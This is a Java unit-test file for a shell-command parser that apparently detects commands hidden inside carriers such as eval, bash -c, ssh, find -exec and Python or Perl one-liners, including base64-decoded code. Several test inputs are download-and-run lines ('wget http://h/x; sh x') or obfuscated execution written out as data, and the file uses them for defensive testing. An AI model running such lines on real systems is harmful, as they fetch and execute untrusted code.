package org.decnet.engine.shell;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What programs run that they are given as words, as text or as code. */
class CarrierTest {
  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "nice -n 19 id~nice",
        "ionice -c 3 id~ionice",
        "stdbuf -oL id~stdbuf",
        "setsid id~setsid",
        "taskset 0x1 id~taskset",
        "chroot /mnt id~chroot",
        "doas -u root id~doas",
        "toybox id~toybox",
        "find / -exec id ; -print~find",
        "find / -exec id {} +~find",
        "eval id~eval",
        "eval 'i'\"d\"~eval",
        "ssh -p 22 root@192.0.2.1 id~ssh",
        "ssh root@h -t id~ssh",
        "watch -n 1 id~watch",
        "script -qc id /dev/null~script -c",
        "su - bob -c id~su -c",
        "runuser -u bob -c id~runuser -c",
        "trap id EXIT~trap",
        "bash -O extglob -c id~bash -c",
        "sh -xc id~sh -c",
        "zsh -c id~zsh -c"
      })
  void carriersRunWhatTheyAreGiven(String line, String via) {
    Parsed parsed = Parsed.of(line.replace(" ; ", " \\; "));

    assertThat(parsed.nestedStatements().getFirst().arg0()).isEqualTo("id");
    assertThat(parsed.nestedStatements().getFirst().via()).containsExactly(via);
    assertThat(parsed.nestedStatements().getFirst().carrier()).isZero();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "ssh root@h",
        "ssh -D1080 root@h -g",
        "find / -name x",
        "watch",
        "eval",
        "bash",
        "bash -i",
        "python3 x.py",
        "perl -v",
        "python -c 'print(1)'",
        "awk '{print $1}' f",
        "cat ./f",
        "trap",
        "timeout 5"
      })
  void whatRunsNothingKnownStandsAlone(String line) {
    assertThat(Parsed.of(line).nested()).isEmpty();
  }

  @Test
  void argumentsOfShellsArePayloadsInPlace() {
    Parsed parsed = Parsed.of("bash -c \"wget http://h/x; sh x\" arg");

    assertThat(parsed.nested()).containsExactly("wget http://h/x", "sh x");
    assertThat(parsed.nestedStatements())
        .extracting(Statement::text)
        .containsExactly("wget http://h/x", "sh x");
  }

  @Test
  void evalJoinsItsWords() {
    Parsed parsed = Parsed.of("a='; w'; eval id \"$a\" && ls");

    assertThat(parsed.nested()).containsExactly("id", "w");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "python -c 'import os; os.system(\"id -u\")'~python -c",
        "python3 -c 'import os; os.system(\"\"\"id -u\"\"\")'~python3 -c",
        "python3.11 -c 'import subprocess; subprocess.run([\"id\",\"-u\"])'~python3.11 -c",
        "python -c 'import subprocess as sp; sp.Popen(\"id \" + \"-u\", shell=True)'~python -c",
        "python -c 'import os;os.execl(\"/bin/id\",\"id\",\"-u\")'~python -c",
        "python -c 'exec(\"import os; os.system(\\\"id -u\\\")\")'~python -c",
        "perl -e 'system(\"id -u\")'~perl -e",
        "perl -e 'exec \"id -u\";'~perl -e",
        "perl -MSocket -e 'print `id -u`'~perl -e",
        "perl -we 'system(\"id\",\"-u\")'~perl -we",
        "ruby -e 'exec \"id -u\"'~ruby -e",
        "php -r 'shell_exec(\"id -u\");'~php -r",
        "node -e 'require(\"child_process\").execSync(\"id -u\")'~node -e",
        "lua -e 'os.execute(\"id -u\")'~lua -e",
        "awk 'BEGIN {system(\"id -u\")}'~awk"
      })
  void callsOfCodeAreCommands(String line, String via) {
    Parsed parsed = Parsed.of(line);

    assertThat(parsed.nestedStatements()).hasSize(1);
    assertThat(parsed.nestedStatements().getFirst().arg0()).isEqualTo("id");
    assertThat(parsed.nestedStatements().getFirst().args()).containsExactly("-u");
    assertThat(parsed.nestedStatements().getFirst().via()).containsExactly(via);
  }

  @Test
  void shellsThatCodeRunsAreFollowed() {
    assertThat(
            Parsed.of("python -c 'import os; os.system(\"wget http://h/x | sh -c id\")'").nested())
        .containsExactly("wget http://h/x", "sh -c id", "id");
    assertThat(
            Parsed.of("python -c 'import subprocess; subprocess.call([\"sh\",\"-c\",\"id; w\"])'")
                .nested())
        .containsExactly("sh -c id; w", "id", "w");
  }

  @Test
  void codeMayBeDecodedFirst() {
    // import os; os.system("id")
    String code = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=";

    assertThat(
            Parsed.of("python -c \"exec(__import__('base64').b64decode('" + code + "'))\"")
                .decoded())
        .containsExactly("python -c import os; os.system(\"id\")", "id");
    assertThat(Parsed.of("python -c \"import os; os.system(b64decode('aWQ7dw=='))\"").decoded())
        .containsExactly("id", "w");
    assertThat(Parsed.of("echo 'import os; os.system(\"id\")' | python3").nested())
        .containsExactly("id");
  }

  @Test
  void nestingIsCapped() {
    CommandLine line = Parsed.of("eval ".repeat(40) + "id").line();

    assertThat(line.statements()).allMatch(statement -> statement.depth() <= 8);
    assertThat(line.status()).isEqualTo(ParseStatus.PARTIAL);
  }
}
